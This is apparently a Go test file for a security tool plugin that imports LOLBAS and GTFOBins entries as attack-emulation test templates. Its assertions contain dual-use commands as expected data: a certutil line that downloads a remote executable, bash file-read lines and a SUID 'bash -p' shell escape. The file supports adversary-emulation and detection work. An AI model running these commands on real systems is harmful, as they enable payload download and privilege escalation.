package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/aegis-sec/aegis/plugins/internal/testfmt"
	"github.com/aegis-sec/aegis/plugins/internal/testfs"
	"github.com/aegis-sec/aegis/sdk"
	"github.com/aegis-sec/aegis/sdk/sdktest"
)

var runner = &sdktest.Runner{Importer: &importer{}, Type: "lolbas"}

var run = runner.Run

func positions(res *sdktest.ImportResult) string {
	var out []string
	for _, in := range res.Incoming {
		out = append(out, in.ExternalID+" @"+in.File+":"+strconv.Itoa(in.Line))
	}
	return strings.Join(out, "\n")
}

func templates(res *sdktest.ImportResult) map[string]*sdk.TestTemplate {
	out := map[string]*sdk.TestTemplate{}
	for _, r := range res.Records {
		out[r.ID()] = r.(*sdk.TestTemplate)
	}
	return out
}

func jsonOf(t *testing.T, v any) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

const lolbasPositions = `lolbas:Certutil.exe:1 @lolbas/yml/OSBinaries/Certutil.yml:7
lolbas:Certutil.exe:2 @lolbas/yml/OSBinaries/Certutil.yml:17
lolbas:Procdump.exe:1 @lolbas/yml/OtherMSBinaries/Procdump.yml:6`

const gtfoPositions = `gtfobins:aptitude:inherit:1 @gtfobins/_gtfobins/aptitude:4
gtfobins:bash:file-read:1 @gtfobins/_gtfobins/bash:4
gtfobins:bash:file-read:2 @gtfobins/_gtfobins/bash:13
gtfobins:bash:shell:1 @gtfobins/_gtfobins/bash:23
gtfobins:bash:reverse-shell:1 @gtfobins/_gtfobins/bash:33
gtfobins:less:file-read:1 @gtfobins/_gtfobins/less:4
gtfobins:less:inherit:1 @gtfobins/_gtfobins/less:8
gtfobins:vim:shell:1 @gtfobins/_gtfobins/vim:4`

// TestImportBoth reads a source holding both catalogs; only yml/ entries
// are LOLBAS entries (not the template or CI files beside them).
func TestImportBoth(t *testing.T) {
	res := run(t, "testdata/ok", "")
	if res.Err != nil {
		t.Fatalf("import: %v", res.Err)
	}
	if got := positions(res); got != lolbasPositions+"\n"+gtfoPositions {
		t.Errorf("records:\n%s", got)
	}
	// The files beside the catalogs are named as left out, and nothing else warns.
	if got := leftOut(t, res); got != "gtfobins/_data/contexts.yml lolbas/.github/workflows/ci.yml lolbas/YML-Template.yml" {
		t.Errorf("left out: %s", got)
	}
	if last := res.Progress[len(res.Progress)-1]; last.Message != "3 LOLBAS commands from 2 files; 8 GTFOBins examples from 6 files, 2 aliases resolved to their targets" ||
		last.Done != 8 || last.Total != 8 {
		t.Errorf("progress = %+v", last)
	}
	tpl := templates(res)

	c := tpl["lolbas:Certutil.exe:1"]
	wantRefs := []sdk.Reference{
		{Source: "lolbas", URL: "https://lolbas-project.github.io/lolbas/Binaries/Certutil/"},
		{Source: "Sigma", URL: "https://github.com/SigmaHQ/sigma/blob/62d4fd2/rules/windows/process_creation/proc_creation_win_certutil_download.yml", Description: "detection"},
		{Source: "Elastic", URL: "https://github.com/elastic/detection-rules/blob/4a11ef9/rules/windows/defense_evasion_suspicious_certutil_commands.toml", Description: "detection"},
		{Source: "resource", URL: "https://twitter.com/Moriarty_Meng/status/984380793383370752"},
	}
	wantMeta := `{"aliases":["certutil64.exe"],"binary":"Certutil.exe","binary_description":"Windows binary used for handling certificates",` +
		`"category":"OSBinaries","code_samples":["https://example.org/certutil-sample.txt"],"command_category":"Download","command_number":1,` +
		`"created":"2018-05-25","detection":[` +
		`{"type":"Sigma","value":"https://github.com/SigmaHQ/sigma/blob/62d4fd2/rules/windows/process_creation/proc_creation_win_certutil_download.yml"},` +
		`{"type":"Elastic","value":"https://github.com/elastic/detection-rules/blob/4a11ef9/rules/windows/defense_evasion_suspicious_certutil_commands.toml"},` +
		`{"type":"IOC","value":"Certutil.exe creating new files on disk"}],` +
		`"full_paths":["C:\\Windows\\System32\\certutil.exe","C:\\Windows\\SysWOW64\\certutil.exe"],` +
		`"operating_system":"Windows vista, Windows 7, Windows 8, Windows 8.1, Windows 10, Windows 11","privileges":"User",` +
		`"tags":["Application: GUI","Download: INetCache"],"usecase":"Download file from Internet"}`
	if c.Name != "Certutil.exe: Download file from Internet" || c.TemplateType != sdk.TemplateLOLBAS ||
		c.Description != "Download and save an executable to disk in the current folder." ||
		strings.Join(c.TechniqueIDs, ",") != "T1105" || strings.Join(c.Platforms, ",") != "windows" || c.Author != "Oddvar Moe" ||
		c.Executor != (sdk.Executor{Name: "command_prompt", Command: "certutil.exe -urlcache -f {REMOTEURL:.exe} {PATH:.exe}"}) ||
		jsonOf(t, c.References) != jsonOf(t, wantRefs) || jsonOf(t, c.Metadata) != wantMeta {
		t.Errorf("certutil 1 = %s", jsonOf(t, c))
	}
	// Administrator privileges mean elevation; a comma-joined MitreID gives two techniques.
	if d := tpl["lolbas:Certutil.exe:2"]; !d.Executor.ElevationRequired || strings.Join(d.TechniqueIDs, ",") != "T1140,T1027.013" {
		t.Errorf("certutil 2 = %s", jsonOf(t, d))
	}
	if p := tpl["lolbas:Procdump.exe:1"]; p.References[0].URL != "https://lolbas-project.github.io/lolbas/OtherMSBinaries/Procdump/" {
		t.Errorf("procdump = %s", jsonOf(t, p))
	}

	// GTFOBins: one template per example with its contexts; a context's own
	// code is kept; no unprivileged context means elevation.
	r := tpl["gtfobins:bash:file-read:1"]
	wantMeta = `{"binary":"bash","binary_comment":"Bash is the GNU shell.","binary_data":false,` +
		`"context_names":["sudo","suid","unprivileged"],"contexts":{"sudo":{},"suid":{"code":"bash -p -c 'echo \"$(\u003c/path/to/input-file)\"'"},"unprivileged":{}},` +
		`"example_number":1,"function":"file-read","function_label":"File read"}`
	if r.Name != "bash: File read (1)" || r.TemplateType != sdk.TemplateGTFOBins || r.Description != "This executable can read data from local files." ||
		strings.Join(r.TechniqueIDs, ",") != "T1005" || strings.Join(r.Platforms, ",") != "linux" ||
		r.Executor != (sdk.Executor{Name: "sh", Command: `bash -c 'echo "$(</path/to/input-file)"'`}) ||
		jsonOf(t, r.References) != `[{"source":"gtfobins","url":"https://gtfobins.github.io/gtfobins/bash/#file-read"}]` ||
		jsonOf(t, r.Metadata) != wantMeta {
		t.Errorf("bash file-read 1 = %s", jsonOf(t, r))
	}
	if r := tpl["gtfobins:bash:file-read:2"]; r.Description != "This executable can read data from local files.\n\nThis only works interactively from an existing `bash` session." {
		t.Errorf("bash file-read 2 = %s", jsonOf(t, r))
	}
	s := tpl["gtfobins:bash:shell:1"]
	if s.Name != "bash: Shell" || !s.Executor.ElevationRequired ||
		jsonOf(t, s.Metadata["contexts"]) != `{"capabilities":{"code":"bash -p","list":["CAP_SETUID"]},"suid":{"code":"bash -p","shell":true}}` {
		t.Errorf("bash shell = %s", jsonOf(t, s))
	}
	if rs := tpl["gtfobins:bash:reverse-shell:1"]; strings.Join(rs.TechniqueIDs, ",") != "T1059,T1071" || rs.Metadata["listener"] != "tcp-server" || rs.Executor.ElevationRequired {
		t.Errorf("bash reverse shell = %s", jsonOf(t, rs))
	}
	// Aliases (view → vim, rview → view → vim) are listed on the target.
	if v := tpl["gtfobins:vim:shell:1"]; jsonOf(t, v.Metadata["aliases"]) != `["rview","view"]` {
		t.Errorf("vim = %s", jsonOf(t, v))
	}
	// inherit: the techniques of the binary handed over to (less: file-read,
	// and through its own inherit of view → vim: shell).
	a := tpl["gtfobins:aptitude:inherit:1"]
	if strings.Join(a.TechniqueIDs, ",") != "T1005,T1059" || a.Metadata["inherits_from"] != "less" || a.Name != "aptitude: Inherit" {
		t.Errorf("aptitude = %s", jsonOf(t, a))
	}
	if l := tpl["gtfobins:less:inherit:1"]; strings.Join(l.TechniqueIDs, ",") != "T1059" {
		t.Errorf("less inherit = %s", jsonOf(t, l))
	}
}

func TestLayouts(t *testing.T) {
	gtfo := "gtfobins/_data/contexts.yml gtfobins/_data/functions.yml gtfobins/_gtfobins/aptitude gtfobins/_gtfobins/bash gtfobins/_gtfobins/less " +
		"gtfobins/_gtfobins/rview gtfobins/_gtfobins/view gtfobins/_gtfobins/vim"
	cases := []struct {
		name, src, cfg, want string
		left                 string // the files named as left out
	}{
		{"LOLBAS checkout", "testdata/ok/lolbas", "", strings.ReplaceAll(lolbasPositions, "@lolbas/", "@"), ".github/workflows/ci.yml YML-Template.yml"},
		{"the yml folder itself", "testdata/ok/lolbas/yml", "", strings.ReplaceAll(lolbasPositions, "@lolbas/yml/", "@"), ""},
		// A folder below yml/ failed with "no LOLBAS entries": the default patterns name yml/.
		{"a folder below yml", "testdata/ok/lolbas/yml/OSBinaries", "", "lolbas:Certutil.exe:1 @Certutil.yml:7\nlolbas:Certutil.exe:2 @Certutil.yml:17", ""},
		{"GTFOBins checkout", "testdata/ok/gtfobins", "", strings.ReplaceAll(gtfoPositions, "@gtfobins/", "@"), "_data/contexts.yml"},
		{"the _gtfobins folder itself", "testdata/ok/gtfobins/_gtfobins", "", strings.ReplaceAll(gtfoPositions, "@gtfobins/_gtfobins/", "@"), ""},
		{"layout gtfobins on both", "testdata/ok", `{"layout":"gtfobins"}`, gtfoPositions,
			"gtfobins/_data/contexts.yml lolbas/.github/workflows/ci.yml lolbas/YML-Template.yml lolbas/yml/OSBinaries/Certutil.yml lolbas/yml/OtherMSBinaries/Procdump.yml"},
		{"layout lolbas on both", "testdata/ok", `{"layout":"lolbas"}`, lolbasPositions, gtfo + " lolbas/.github/workflows/ci.yml lolbas/YML-Template.yml"},
		{"custom globs", "testdata/ok", `{"lolbas_files":["lolbas/yml/Other*/*.yml"],"gtfobins_files":[]}`, "lolbas:Procdump.exe:1 @lolbas/yml/OtherMSBinaries/Procdump.yml:6",
			gtfo + " lolbas/.github/workflows/ci.yml lolbas/YML-Template.yml lolbas/yml/OSBinaries/Certutil.yml"},
		{"single LOLBAS file", "testdata/ok/lolbas/yml/OtherMSBinaries/Procdump.yml", "", "lolbas:Procdump.exe:1 @Procdump.yml:6", ""},
		{"single GTFOBins file", "testdata/ok/gtfobins/_gtfobins/vim", "", "gtfobins:vim:shell:1 @vim:4", ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			res := run(t, tc.src, tc.cfg)
			if res.Err != nil {
				t.Fatal(res.Err)
			}
			if got := positions(res); got != tc.want {
				t.Errorf("records:\n%s\nwant:\n%s", got, tc.want)
			}
			// The functions file beside _gtfobins is found in every layout; what is
			// not read is named, and nothing else warns.
			if got := leftOut(t, res); got != tc.left {
				t.Errorf("left out:\n%s\nwant:\n%s", got, tc.left)
			}
			for _, r := range res.Records {
				if len(r.(*sdk.TestTemplate).TechniqueIDs) == 0 {
					t.Errorf("%s has no techniques", r.ID())
				}
			}
		})
	}
}

func TestMalformedFilesAreWarnings(t *testing.T) {
	res := run(t, "testdata/malformed", "")
	if res.Err != nil {
		t.Fatalf("bad files must not fail the import: %v", res.Err)
	}
	want := `lolbas:NoName:1 @lolbas/yml/X/NoName.yml:3
lolbas:Same.exe:3 @lolbas/yml/X/bad.yml:6
lolbas:Same.exe:4 @lolbas/yml/X/bad.yml:9
lolbas:Same.exe:1 @lolbas/yml/X/same.yml:3
lolbas:Same.exe:2 @lolbas/yml/X/same.yml:4
gtfobins:mixed:shell:3 @gtfobins/_gtfobins/mixed:7
gtfobins:mixed:shell:4 @gtfobins/_gtfobins/mixed:9
gtfobins:mixed:teleport:1 @gtfobins/_gtfobins/mixed:14
gtfobins:mixed:file-read:1 @gtfobins/_gtfobins/mixed:18`
	if got := positions(res); got != want {
		t.Errorf("records:\n%s\nwant:\n%s", got, want)
	}
	wantDiags := []string{
		"gtfobins/_gtfobins/.DS_Store:0: file left out: not a LOLBAS entry or GTFOBins binary by the lolbas_files, gtfobins_files and layout settings",
		"lolbas/yml/X/NoName.yml:1: entry has no Name; using the file name NoName",
		"lolbas/yml/X/bad.yml:4 lolbas:Same.exe:1: skipped command 1: not a mapping",
		"lolbas/yml/X/bad.yml:5 lolbas:Same.exe:2: skipped command 2: it has no Command",
		`lolbas/yml/X/bad.yml:7 lolbas:Same.exe:3: MitreID "TA0005" ignored: not an ATT&CK technique id`,
		"lolbas/yml/X/broken.yml:3: skipped unreadable file",
		"lolbas/yml/X/cmdsmap.yml:3: skipped entry Cmds.exe: Commands is not a list",
		"lolbas/yml/X/empty.yml:0: skipped empty file",
		"lolbas/yml/X/list.yml:1: skipped file: not a LOLBAS entry",
		"lolbas/yml/X/same.yml:1: entry Same.exe has the same Name as lolbas/yml/X/bad.yml; commands whose ids collide are skipped",
		"lolbas/yml/X/same.yml:5 lolbas:Same.exe:3: skipped template with a duplicate id (first at lolbas/yml/X/bad.yml:6)",
		"gtfobins/_gtfobins/broken:1: skipped unreadable file",
		"gtfobins/_gtfobins/empty:0: skipped empty file",
		"gtfobins/_gtfobins/fnlist:2 fnlist: skipped file: functions is not a mapping",
		"gtfobins/_gtfobins/mixed:2 mixed: alias bash ignored: the file has functions of its own",
		"gtfobins/_gtfobins/mixed:5 mixed: skipped example mixed shell #1: not a mapping",
		"gtfobins/_gtfobins/mixed:6 mixed: skipped example mixed shell #2: it has no code",
		"gtfobins/_gtfobins/mixed:8 mixed: contexts of example mixed shell #3 ignored: not a mapping",
		"gtfobins/_gtfobins/mixed:11 mixed: context suid of example mixed shell #4: details ignored",
		"gtfobins/_gtfobins/neither:2 neither: skipped file: neither functions nor alias",
		"gtfobins/_gtfobins/notmap:2: skipped file: no GTFOBins front matter",
		"gtfobins/_data/functions.yml:0: functions.yml not found; using the built-in technique table",
		"gtfobins/_gtfobins/loop-a:2 loop-a: alias loop-a → loop-b → loop-a does not lead to a binary with examples; skipped",
		"gtfobins/_gtfobins/loop-b:2 loop-b: alias loop-b → loop-a → loop-b does not lead to a binary with examples; skipped",
		"gtfobins/_gtfobins/vimdiff:2 vimdiff: alias vimdiff → nvim does not lead to a binary with examples; skipped",
		"gtfobins/_gtfobins/mixed:13 mixed: function teleport is not in functions.yml; its examples carry no techniques",
	}
	if got := testfmt.Diagnostics(res.Diagnostics); got != strings.Join(wantDiags, "\n") {
		t.Errorf("diagnostics:\n%s\nwant:\n%s", got, strings.Join(wantDiags, "\n"))
	}
	tpl := templates(res)
	// SYSTEM privileges mean elevation; a tactic id in MitreID is dropped.
	if s := tpl["lolbas:Same.exe:3"]; !s.Executor.ElevationRequired || strings.Join(s.TechniqueIDs, ",") != "T1105" || s.Name != "Same.exe: command 3" {
		t.Errorf("same 3 = %s", jsonOf(t, s))
	}
	// Without functions.yml the built-in table still gives shell its technique;
	// numbers count the skipped examples, so fixing one renumbers nothing.
	if m := tpl["gtfobins:mixed:shell:4"]; strings.Join(m.TechniqueIDs, ",") != "T1059" || m.Name != "mixed: shell (4)" ||
		!m.Executor.ElevationRequired || jsonOf(t, m.Metadata["context_names"]) != `["sudo","suid"]` {
		t.Errorf("mixed shell 4 = %s", jsonOf(t, m))
	}
	if m := tpl["gtfobins:mixed:teleport:1"]; len(m.TechniqueIDs) != 0 {
		t.Errorf("unknown function = %s", jsonOf(t, m))
	}
}

func TestFailures(t *testing.T) {
	cases := []struct{ name, src, cfg, want string }{
		{"missing source", "testdata/nope", "", "no such file"},
		{"empty folder", t.TempDir(), "", "neither LOLBAS entries nor GTFOBins binaries"},
		{"layout lolbas without LOLBAS", "testdata/ok/gtfobins", `{"layout":"lolbas"}`, "no LOLBAS entries"},
		{"layout gtfobins without GTFOBins", "testdata/ok/lolbas", `{"layout":"gtfobins"}`, "no GTFOBins binaries"},
		{"single file of neither kind", "testdata/ok/gtfobins/_data/contexts.yml", "", "neither a LOLBAS entry"},
		{"bad layout", "testdata/ok", `{"layout":"sigma"}`, `layout "sigma"`},
		{"unknown config key", "testdata/ok", `{"files":["x"]}`, `config key "files": unknown key`},
		{"bad glob", "testdata/ok", `{"gtfobins_files":["[x"]}`, "bad glob"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) { runner.WantFailure(t, tc.src, tc.cfg, tc.want) })
	}
}

func TestDeterministic(t *testing.T) {
	runner.Deterministic(t, "testdata/ok", "")
}

func TestConformance(t *testing.T) {
	sdktest.Conformance(t, sdk.ServeOpts{Name: "lolbas", Version: version, Importers: map[string]sdk.Importer{"lolbas": &importer{}}})
}

// FuzzParseLOLBASFile: no input panics the parser, and every template it
// returns is a record the host accepts.
func FuzzParseLOLBASFile(f *testing.F) {
	sdktest.SeedFiles(f, "testdata/ok/lolbas", "testdata/malformed/lolbas")
	f.Add([]byte("Name: &n x\nCommands: [{Command: *n, MitreID: [T1, T1234.001]}]"))
	f.Fuzz(func(t *testing.T, data []byte) {
		items, _ := parseLOLBASFile("yml/OSBinaries/X.yml", data)
		for _, it := range items {
			if err := it.rec.Validate(); err != nil {
				t.Fatalf("invalid record: %v", err)
			}
			if _, err := json.Marshal(it.rec); err != nil {
				t.Fatalf("record does not encode: %v", err)
			}
		}
	})
}

// FuzzParseGTFOBinsFile: a binary file, parsed and turned into templates
// (aliases and inherit resolved against itself), never panics and yields
// valid records.
func FuzzParseGTFOBinsFile(f *testing.F) {
	sdktest.SeedFiles(f, "testdata/ok/gtfobins/_gtfobins", "testdata/malformed/gtfobins/_gtfobins")
	f.Add([]byte("---\nfunctions:\n  inherit:\n  - {code: x, from: x}\n..."))
	f.Add([]byte("---\nalias: x\n..."))
	fns, _ := parseFunctions(mustRead(f, "testdata/ok/gtfobins/_data/functions.yml"))
	f.Fuzz(func(t *testing.T, data []byte) {
		b, _ := parseGTFOBinsFile("x", data)
		if b == nil {
			return
		}
		cat := &gtfoCatalog{binaries: map[string]*gtfoBinary{"x": b}, functions: fns}
		cat.resolve("x")
		for _, it := range cat.templates(b, []string{"y"}) {
			if err := it.rec.Validate(); err != nil {
				t.Fatalf("invalid record: %v", err)
			}
			if _, err := json.Marshal(it.rec); err != nil {
				t.Fatalf("record does not encode: %v", err)
			}
		}
	})
}

// FuzzParseFunctions: functions.yml never panics the parser and only
// technique ids come out.
func FuzzParseFunctions(f *testing.F) {
	f.Add(mustRead(f, "testdata/ok/gtfobins/_data/functions.yml"))
	f.Add([]byte("shell: {mitre: T1059, T10}\nx: &a {mitre: *a}"))
	f.Fuzz(func(t *testing.T, data []byte) {
		fns, _ := parseFunctions(data)
		for name, fn := range fns {
			for _, id := range fn.techniques {
				if !techniqueRe.MatchString(id) {
					t.Fatalf("function %s: technique %q", name, id)
				}
			}
		}
	})
}

func mustRead(f *testing.F, p string) []byte {
	b, err := os.ReadFile(p)
	if err != nil {
		f.Fatal(err)
	}
	return b
}

// A record depends on other files (duplicate ids and Names, GTFOBins aliases,
// functions.yml): a re-import skips the source only when no file changed, was
// added or was deleted, and reads it whole otherwise.
func TestSkipsOnlyAWhollyUnchangedSource(t *testing.T) {
	runner.SkipsOnlyWhollyUnchanged(t, "testdata/ok", "",
		sdktest.Edit{Name: "changed functions.yml", Apply: func(dir string) {
			testfs.WriteFile(t, filepath.Join(dir, "gtfobins/_data/functions.yml"), "{}\n")
		}},
		sdktest.Edit{Name: "added LOLBAS entry", Apply: func(dir string) {
			testfs.CopyFile(t, filepath.Join(dir, "lolbas/yml/OSBinaries/Certutil.yml"), filepath.Join(dir, "lolbas/yml/OSBinaries/Copy.yml"))
		}},
		sdktest.Edit{Name: "deleted alias target", Apply: func(dir string) {
			testfs.Remove(t, filepath.Join(dir, "gtfobins/_gtfobins/vim"))
		}})
}

// leftOut returns the files the run's warnings name as left out, space-separated,
// and fails on any other diagnostic.
func leftOut(t *testing.T, res *sdktest.ImportResult) string {
	t.Helper()
	var files []string
	for _, d := range res.Diagnostics {
		if d.Summary != "file left out: not a LOLBAS entry or GTFOBins binary by the lolbas_files, gtfobins_files and layout settings" {
			t.Errorf("diagnostic %s: %s", d.File, d.Summary)
			continue
		}
		files = append(files, d.File)
	}
	return strings.Join(files, " ")
}
